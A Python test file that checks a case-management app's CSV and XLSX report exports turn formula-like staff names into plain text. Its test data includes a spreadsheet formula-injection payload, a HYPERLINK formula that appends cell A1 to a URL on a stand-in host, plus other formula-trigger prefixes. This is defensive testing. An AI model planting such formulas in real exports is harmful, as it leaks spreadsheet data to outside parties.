"""Names that a spreadsheet would run as formulas come out of every export as plain text."""

import csv
import io

import time_machine
from openpyxl import load_workbook

from caseflow.extensions import db
from caseflow.reports.export import to_csv, to_xlsx
from caseflow.reports.registry import indicator
from tests.offices import Office
from tests.reports.helpers import at, decide, report_filter, wmo

NAMES = ('=HYPERLINK("http://example.invalid/?d="&A1,"klik")', "+31 6 1234", "-2+3", "@SUM(A1)")


def test_formula_like_labels_are_text_in_csv_and_xlsx(
    office: Office, travel: time_machine.Traveller
) -> None:
    at(travel, "2026-06-02 10:00")
    office.anna.full_name, office.bram.full_name = NAMES[0], NAMES[1]
    db.session.flush()
    for handler in (office.anna, office.bram):
        decide(wmo(office, handler))
    result = indicator("doorlooptijd").run(report_filter("2026-06-30", "2026-06"), ["consulent"])
    labels = {row.labels[0] for row in result.rows}
    assert {NAMES[0], NAMES[1]} <= labels

    rows = list(csv.reader(io.StringIO(to_csv(result))))
    first_cells = {row[0] for row in rows[1:]}
    assert "'" + NAMES[0] in first_cells and "'" + NAMES[1] in first_cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    book = load_workbook(io.BytesIO(to_xlsx(result)))
    cells = [cell for row in book["Cijfers"].iter_rows() for cell in row]
    named = {cell.value: cell.data_type for cell in cells if cell.value in NAMES}
    assert named == {NAMES[0]: "s", NAMES[1]: "s"}
    assert all(cell.data_type != "f" for sheet in book for row in sheet.iter_rows() for cell in row)
